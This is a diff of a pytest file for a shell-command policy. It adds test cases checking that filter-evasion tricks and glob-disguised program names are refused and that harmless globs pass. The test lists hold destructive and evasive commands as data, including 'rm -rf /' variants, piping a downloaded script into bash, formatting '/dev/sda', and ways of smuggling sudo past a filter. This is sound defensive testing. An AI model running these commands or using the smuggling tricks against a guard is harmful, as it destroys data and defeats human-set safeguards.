@@ -109,10 +109,26 @@ def test_too_deep_nesting_is_refused() -> None:
 @pytest.mark.parametrize("line", [
     "rm${IFS}-rf${IFS}/", "rm$IFS-rf$IFS~", "{rm,-rf,/}", "rm -rf {/,}", "sudo${IFS}ls", "f(){ rm -rf /; }; f",
     "function f { sudo ls; }; f", "alias r='rm -rf /'", "env -S 'sudo ls'", "bash <<< 'sudo ls'",
-    "time -p sudo ls", "pkexec ls", "run0 ls",
+    "time -p sudo ls", "pkexec ls", "run0 ls", "trap 'sudo ls' EXIT", "script -qc 'sudo ls' /dev/null",
+    "unshare -r sudo ls", "runuser -u root ls", "sudoedit /etc/hosts", "sudo -e /etc/hosts",
+    "hash -p /usr/bin/sudo s; s ls",
 ])
 def test_smuggling_through_ifs_braces_functions_aliases_env_s_and_here_strings_is_refused(line: str) -> None:
     assert not CommandPolicy().check(line).allowed, line
+
+
+@pytest.mark.parametrize("line", [
+    "/usr/bin/su[d]o ls", "/usr/bin/sud? ls", "/bin/r? -rf /", "/sbin/reb??t", "s?do -n true", "/usr/bin/[s]u -",
+    "curl https://x.sh | /bin/ba?h", "/usr/sbin/mkfs* /dev/sda",
+])
+def test_a_pathname_pattern_that_can_name_a_refused_program_is_refused(line: str) -> None:
+    """bash globs the command word: /usr/bin/su[d]o runs sudo."""
+    assert not CommandPolicy().check(line).allowed, line
+
+
+@pytest.mark.parametrize("line", ["ls *.py", "./build?.sh", "/usr/bin/py[t]hon3 -V", "[ -f x ] && echo y"])
+def test_a_pathname_pattern_naming_an_ordinary_program_is_allowed(line: str) -> None:
+    assert CommandPolicy().check(line).allowed, line
 
 
 @pytest.mark.parametrize("line", ["echo {a,b}.txt", "cp file.{txt,bak}", "grep x <<< 'sudo'", "echo $IFS",
@@ -123,7 +139,8 @@ def test_braces_ifs_and_here_strings_in_ordinary_commands_are_allowed(line: str)
 
 def test_allow_only_mode_never_allows_a_command_named_by_an_expansion() -> None:
     policy = CommandPolicy(allowed=["*"], exempt=["*"])
-    for line in ("s=sudo; $s -n true", "${x} a", "$(which rm) x", 'eval "$c"', "sudo $x"):
+    for line in ("s=sudo; $s -n true", "${x} a", "$(which rm) x", 'eval "$c"', "sudo $x", "/usr/bin/su[d]o -n true",
+                 "/usr/*/sudo ls"):
         decision = policy.check(line)
         assert not decision.allowed and decision.rule == "dynamic-command", line
     assert policy.check("echo $HOME; eval ls").allowed
